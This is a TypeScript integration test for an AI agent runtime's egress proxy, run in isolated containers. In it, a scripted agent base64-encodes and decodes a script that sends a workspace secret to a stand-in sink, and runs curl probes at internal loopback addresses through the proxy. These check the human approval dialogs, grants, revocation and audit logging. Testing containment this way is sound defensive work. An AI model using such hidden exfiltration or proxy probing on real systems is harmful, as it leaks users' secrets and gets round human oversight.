// Issue 18's egress proxy in the real image, in the three launch modes, with real Pi, the scripted model and the
// policy at `auto`. Each container has a network namespace of its own (NetworkMode "none"): its loopback, and a
// veth interface with 203.0.113.7, an address that exists only there. On it a sink counts every connection (and
// whether the workspace secret arrived) on port 80, and a registry stand-in serves a git repository over HTTP on
// port 8080, which the operator's registries file (--registries-file) names. An agent-written script sends the
// secret to the sink through the proxy the tools' environment names: the only way there is the bridge's own
// dialog naming the destination; "Allow once" reaches it once, the next run asks again; "for this session" does
// not ask again, and revoking the grant makes it ask. `git clone` from the stand-in works without a dialog.
// The scripted model and the bridge are reached through unix sockets in a bind-mounted folder (the sandbox
// test's infrastructure). Attack code runs only inside these containers.
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { PassThrough } from "node:stream";
import { before, describe, it, type TestContext } from "node:test";
import { APPROVAL_CHOICES } from "../../agent-runtime/policy/grants.ts";
import type { Isolation } from "../../bridge/protocol.ts";
import { type Frame, TestClient } from "../support/bridge.ts";
import {
  buildImage,
  buildProductImage,
  docker,
  execIn,
  IMAGE_BUILD_TIMEOUT_MS,
  imageTag,
} from "./support/docker.ts";
import { hostModel, until } from "./support/harness.ts";

const IMAGE = imageTag("chat-ui-agent-runtime:egress-proxy-test");
const PROBES = imageTag("chat-ui-agent-runtime:egress-proxy-probes");
const FIXTURES = path.join(import.meta.dirname, "fixtures");
const PORTS = { bridge: 7700, model: 7701, sbx: 7702 };
const TARGET = "203.0.113.7";
const SINK = `${TARGET}:80`;
const STANDIN = `${TARGET}:8080`;
const REGISTRIES = { registries: [{ name: "stand-in", hosts: [TARGET], ports: [8080] }] };

before(
  async () => {
    await buildProductImage(IMAGE);
    const context = mkdtempSync(path.join(tmpdir(), "egress-proxy-probes-"));
    try {
      for (const file of [
        "sandbox-infra.mjs",
        "egress-standin.mjs",
        "egress-registry-setup.mjs",
        "egress-wheel-setup.py",
      ])
        copyFileSync(path.join(FIXTURES, file), path.join(context, file));
      writeFileSync(
        path.join(context, "Dockerfile"),
        [
          `FROM ${IMAGE}`,
          "USER root",
          // pip for the PyPI stand-in (the product image has no Python; a test-only layer).
          "RUN apt-get update && apt-get install -y --no-install-recommends iproute2 python3 python3-pip && rm -rf /var/lib/apt/lists/*",
          "COPY sandbox-infra.mjs egress-standin.mjs egress-registry-setup.mjs egress-wheel-setup.py /opt/egress-test/",
          "RUN chmod 0644 /opt/egress-test/*",
          "",
        ].join("\n"),
      );
      const probes = await buildImage(context, PROBES);
      if (!probes.ok)
        throw new Error(
          `the probe image failed to build: ${probes.error}\n${probes.log.split("\n").slice(-40).join("\n")}`,
        );
    } finally {
      rmSync(context, { recursive: true, force: true });
    }
  },
  { timeout: IMAGE_BUILD_TIMEOUT_MS },
);

interface Mode {
  name: string;
  user: string | undefined;
  token: "env" | "file";
}

const MODES: Mode[] = [
  { name: "root, --agent-user agent, token in a --token-file", user: "root", token: "file" },
  { name: "the image's default user, started as sbx-server would", user: undefined, token: "env" },
  { name: "--user 1000 (one uid)", user: "1000", token: "env" },
];

interface Running {
  client: TestClient;
  root: (command: string) => Promise<string>;
  logs: () => Promise<string>;
  /** Runs one prompt's tool call; `choice` answers the proxy's dialogs meanwhile (undefined: none may come). */
  tool: (prompt: string, choice?: string) => Promise<{ text: string; selects: Frame[] }>;
  sink: () => Promise<{ connections: number; secretSeen: boolean }>;
  request: (frame: Record<string, unknown>) => Promise<Frame>;
}

async function start(t: TestContext, mode: Mode): Promise<Running> {
  const { seed, relayDir } = await hostModel(t, "egress-image", PORTS.model);
  const token = `bridge-token-${randomBytes(16).toString("hex")}`;
  const bridge = [
    "node /opt/chat-ui-agent/bridge.mjs",
    `--listen 127.0.0.1:${PORTS.bridge} --cwd /workspace --agent-user agent`,
    "--registries-file /run/egress-test/registries.json",
    mode.token === "file" ? "--token-file /run/bridge-token" : "",
    "--provider scripted --model scripted-model --no-session",
  ].join(" ");
  // The bridge starts once the test wrote the registries file (it reads the token first).
  const launcher =
    mode.token === "file"
      ? `umask 077; read -r T; printf %s "$T" > /run/bridge-token; ${bridge}; sleep 100000`
      : `read -r T; CHAT_UI_AGENT_BRIDGE_TOKEN="$T" ${bridge}; sleep 100000`;
  const container = await docker.createContainer({
    Image: PROBES,
    ...(mode.user ? { User: mode.user } : {}),
    Cmd: ["sh", "-c", launcher],
    Env: ["PI_CODING_AGENT_DIR=/pi-seed", "PI_OFFLINE=1", "AGENT_POLICY=auto"],
    OpenStdin: true,
    StdinOnce: false,
    AttachStdin: true,
    AttachStdout: true,
    AttachStderr: true,
    HostConfig: {
      NetworkMode: "none",
      // Only for root's setup through docker exec (the veth interface); no tool runs as root.
      CapAdd: ["NET_ADMIN"],
      Binds: [`${seed}:/pi-seed:ro`, `${relayDir}:/relay`],
    },
  });
  t.after(async () => {
    await container.remove({ force: true });
  });
  const io = await container.attach({ stream: true, stdin: true, stdout: true, stderr: true, hijack: true });
  docker.modem.demuxStream(io, new PassThrough(), new PassThrough());
  await container.start();
  const root = async (command: string) => {
    const result = await execIn(container, ["sh", "-c", command], "root");
    return result.stdout + result.stderr;
  };
  const secret = `secret-${randomBytes(12).toString("hex")}`;
  const infra = {
    secret,
    countsFile: "/run/sink-counts.json",
    modelPort: PORTS.model,
    modelSocket: "/relay/model.sock",
    bridgePort: PORTS.bridge,
    bridgeSocket: "/relay/bridge.sock",
    sbxPort: PORTS.sbx,
    sbxSocket: "/relay/sbx-unused.sock",
    sink: { hosts: [TARGET], tcpPorts: [80, 443], udpPorts: [] },
  };
  const setup = await root(
    [
      "set -e",
      "ip link set lo up",
      "ip link add veth0 type veth peer name veth1",
      "ip link set veth0 up",
      "ip link set veth1 up",
      `ip addr add ${TARGET}/24 dev veth0`,
      `printf '%s\\n' '${secret}' > /workspace/secret.txt && chmod 644 /workspace/secret.txt`,
      "mkdir -p /run/egress-test && chmod 755 /run/egress-test",
      `printf '%s' '${JSON.stringify(REGISTRIES)}' > /run/egress-test/registries.json`,
      "chmod 644 /run/egress-test/registries.json",
      // A git repository the stand-in serves over git's dumb HTTP transport.
      "mkdir -p /srv/standin /tmp/seed-repo && cd /tmp/seed-repo && git init -q -b main",
      "echo standin-content > README && git add README",
      "git -c user.email=t@test -c user.name=t commit -q -m seed",
      "git clone -q --bare /tmp/seed-repo /srv/standin/repo.git",
      "git --git-dir=/srv/standin/repo.git update-server-info",
      `node /opt/egress-test/egress-registry-setup.mjs /srv/standin http://${STANDIN}`,
      "python3 /opt/egress-test/egress-wheel-setup.py /srv/standin",
      `nohup node /opt/egress-test/sandbox-infra.mjs '${JSON.stringify(infra)}' > /run/infra.log 2>&1 &`,
      `nohup node /opt/egress-test/egress-standin.mjs ${TARGET} 8080 /srv/standin /run/standin-counts.json > /run/standin.log 2>&1 &`,
      "echo SETUP_DONE",
    ].join("\n"),
  );
  assert.match(setup, /SETUP_DONE/, setup);
  await until(async () => (await root("cat /run/infra.log")).includes("INFRA_READY"), 20_000, "the infra");
  await until(
    async () => (await root("cat /run/standin.log")).includes("STANDIN_READY"),
    20_000,
    "the stand-in",
  );
  io.write(`${token}\n`);
  const logs = async () =>
    ((await container.logs({ stdout: true, stderr: true })) as unknown as Buffer).toString("utf8");
  await until(async () => (await logs()).includes('"msg":"listening"'), 90_000, "the bridge to listen");
  const { client } = await TestClient.connect(`ws+unix://${path.join(relayDir, "bridge.sock")}:/v1/rpc`, {
    token,
    clientId: "the-person",
  });
  t.after(() => client.close());
  let n = 0;
  // The person says yes to the gate's confirmations: what is tested is the proxy's own dialog.
  void (async () => {
    let from = 0;
    for (;;) {
      const dialog = await client
        .waitFor((f) => f.type === "extension_ui_request" && f.method === "confirm", 3_600_000, from)
        .catch(() => undefined);
      if (!dialog) return;
      from = client.frames.indexOf(dialog) + 1;
      client.send({ type: "extension_ui_response", id: dialog.id, commandId: `yes-${++n}`, confirmed: true });
    }
  })();
  const request = (frame: Record<string, unknown>) => client.request({ ...frame, id: `r-${++n}` });
  const tool = async (prompt: string, choice?: string) => {
    const from = client.frames.length;
    let answering = true;
    // Every proxy dialog during this call gets `choice` (each is checked by the caller from `selects`).
    const answers = (async () => {
      let seen = from;
      while (answering && choice !== undefined) {
        const dialog = await client
          .waitFor((f) => f.type === "extension_ui_request" && f.method === "select", 1_000, seen)
          .catch(() => undefined);
        if (!dialog) continue;
        seen = client.frames.indexOf(dialog) + 1;
        client.send({ type: "extension_ui_response", id: dialog.id, commandId: `c-${++n}`, value: choice });
      }
    })();
    const response = await client.request({ type: "prompt", id: `p-${++n}`, message: prompt }, 30_000);
    assert.equal(response.success, true, JSON.stringify(response));
    const end = await client.waitFor((f) => f.type === "tool_execution_end", 240_000, from);
    await client.waitFor((f) => f.type === "agent_settled", 60_000, from);
    answering = false;
    await answers;
    const r = end.result as { content: { text?: string }[] };
    const selects = client.frames
      .slice(from)
      .filter((f) => f.type === "extension_ui_request" && f.method === "select");
    return { text: r.content.map((c) => c.text ?? "").join(""), selects };
  };
  const sink = async () => {
    const counts = JSON.parse((await root("cat /run/sink-counts.json")) || "{}") as {
      connections?: number;
      secretSeen?: boolean;
    };
    return { connections: counts.connections ?? 0, secretSeen: counts.secretSeen === true };
  };
  const set = await request({ type: "set_policy", policy: "auto" });
  assert.equal(set.success, true, JSON.stringify(set));
  return { client, root, logs, tool, sink, request };
}

describe("the egress proxy in the image: per-destination dialogs, grants, registries", {
  timeout: 60 * 60_000,
}, () => {
  for (const mode of MODES) {
    it(`${mode.name}: a destination asks; once reaches once, session grants, revoke asks; the registry stand-in passes`, async (t) => {
      const r = await start(t, mode);
      const status = await r.request({ type: "bridge_status" });
      const egress = (status.data as { isolation: Isolation }).isolation.protections.egress;
      t.diagnostic(`egress: ${JSON.stringify(egress)}`);
      assert.equal(egress.active, true, egress.detail);

      // The agent writes the script (base64, as it would hide it), then runs it.
      const encoded = readFileSync(path.join(FIXTURES, "egress-through-proxy.sh")).toString("base64");
      await r.tool(`WRITE /workspace/send.b64 ${encoded}`);
      const decoded = await r.tool("BASH base64 -d /workspace/send.b64 > /workspace/send.sh && echo DECODED");
      assert.match(decoded.text, /DECODED/, decoded.text);
      const send = `BASH sh /workspace/send.sh http://${SINK}/`;

      // Nothing arrives without an answer: denied.
      const denied = await r.tool(send, APPROVAL_CHOICES.deny);
      assert.match(denied.text, /PROXY:http:\/\/127\.0\.0\.1:\d+/, denied.text);
      assert.equal(denied.selects.length, 1, "one dialog");
      const dialog = denied.selects[0] as Frame;
      assert.match(String(dialog.title), /203\.0\.113\.7:80/);
      assert.match(String(dialog.message), /host: 203\.0\.113\.7\nport: 80/);
      assert.match(String(dialog.message), /asked by: tool call \S+ \(pid \d+\)/, String(dialog.message));
      assert.deepEqual(await r.sink(), { connections: 0, secretSeen: false });

      // Allow once: it arrives once; the next run asks again.
      const once = await r.tool(send, APPROVAL_CHOICES.once);
      assert.equal(once.selects.length, 1);
      assert.deepEqual(await r.sink(), { connections: 1, secretSeen: true });
      const again = await r.tool(send, APPROVAL_CHOICES.deny);
      assert.equal(again.selects.length, 1, "once does not carry over");
      assert.equal((await r.sink()).connections, 1);

      // For the session: no more dialogs; revoked: it asks again.
      const session = await r.tool(send, APPROVAL_CHOICES.session);
      assert.equal(session.selects.length, 1);
      assert.equal((await r.sink()).connections, 2);
      const granted = await r.tool(send);
      assert.equal(granted.selects.length, 0, "the session grant: no dialog");
      assert.equal((await r.sink()).connections, 3);
      const listed = await r.request({ type: "list_grants" });
      const grants = (listed.data as { grants: { id: string; key: string }[] }).grants;
      assert.deepEqual(
        grants.map((g) => g.key),
        [SINK],
      );
      const revoked = await r.request({ type: "revoke_grant", grant: grants[0]?.id });
      assert.equal(revoked.success, true, JSON.stringify(revoked));
      const afterRevoke = await r.tool(send, APPROVAL_CHOICES.deny);
      assert.equal(afterRevoke.selects.length, 1, "revoked: it asks again");
      assert.equal((await r.sink()).connections, 3);

      // A tunnel (HTTPS through CONNECT) to another port: its own dialog, naming the tunnel; once reaches it once.
      const tunnel = await r.tool(`BASH sh /workspace/send.sh https://${TARGET}/`, APPROVAL_CHOICES.once);
      assert.equal(tunnel.selects.length, 1, "another port: another destination");
      assert.match(String(tunnel.selects[0]?.title), /203\.0\.113\.7:443/);
      assert.match(String(tunnel.selects[0]?.message), /a tunnel \(HTTP CONNECT\)/);
      assert.equal((await r.sink()).connections, 4);

      // The registry stand-in named in the registries file: git clone, npm install and pip install through the
      // proxy, no dialog.
      const clone = await r.tool(
        `BASH git clone -q http://${STANDIN}/repo.git /tmp/standin-clone && cat /tmp/standin-clone/README`,
      );
      assert.match(clone.text, /standin-content/, clone.text);
      assert.equal(clone.selects.length, 0, "a registry in auto: no dialog");
      const npm = await r.tool(
        `BASH mkdir -p /workspace/npm-test && cd /workspace/npm-test && npm install --no-audit --no-fund --no-update-notifier --registry http://${STANDIN}/ egress-standin-pkg >/dev/null 2>&1; node -e 'console.log(require("egress-standin-pkg"))'`,
      );
      assert.match(npm.text, /standin-package-content/, npm.text);
      assert.equal(npm.selects.length, 0, "a registry in auto: no dialog");
      const pip = await r.tool(
        `BASH pip install -q --disable-pip-version-check --no-cache-dir --index-url http://${STANDIN}/simple/ --trusted-host ${TARGET} --target /workspace/pydeps egress-standin-pkg 2>&1 | tail -5; PYTHONPATH=/workspace/pydeps python3 -c 'import egress_standin_pkg as p; print(p.CONTENT)'`,
      );
      assert.match(pip.text, /standin-python-content/, pip.text);
      assert.equal(pip.selects.length, 0, "a registry in auto: no dialog");

      // The audit log names the rule or grant of every decision.
      const audit = (await r.logs())
        .split("\n")
        .filter((line) => line.includes('"msg":"egress allowed"') || line.includes('"msg":"egress refused"'))
        .map((line) => JSON.parse(line.slice(line.indexOf("{"))) as { destination: string; rule: string });
      const rules = audit.map((a) => a.rule.replace(/^grant:g-[0-9a-f]{16}$/, "grant"));
      assert.deepEqual(
        rules.slice(0, 7),
        ["person-deny", "person-once", "person-deny", "grant", "grant", "person-deny", "person-once"],
        JSON.stringify(audit),
      );
      assert.ok(rules.length > 7, JSON.stringify(audit));
      assert.deepEqual([...new Set(rules.slice(7))], ["auto-registry"], "every request of the clone");

      // An internal address through the proxy (loopback spellings, so the traffic stays in the container), by plain
      // HTTP and by a tunnel: refused before any decision, no dialog, audited as internal-address.
      const internal = await r.tool(
        `BASH for u in http://127.0.0.2:9/ 'http://[::ffff:7f00:2]:9/'; do curl -s -m 8 --noproxy '' -x "$HTTP_PROXY" -o /dev/null -w 'HTTP:%{http_code} ' "$u"; done; curl -s -m 8 --noproxy '' -p -x "$HTTP_PROXY" -o /dev/null -w 'CONNECT:%{http_connect}' https://127.0.0.2:9/`,
      );
      assert.match(internal.text, /HTTP:403 HTTP:403 CONNECT:403/, internal.text);
      assert.equal(internal.selects.length, 0, "no dialog about what no answer could let through");
      const internalAudit = (await r.logs())
        .split("\n")
        .filter(
          (line) => line.includes('"msg":"egress refused"') && line.includes('"rule":"internal-address"'),
        );
      assert.equal(internalAudit.length, 3, internalAudit.join("\n"));
    });
  }
});
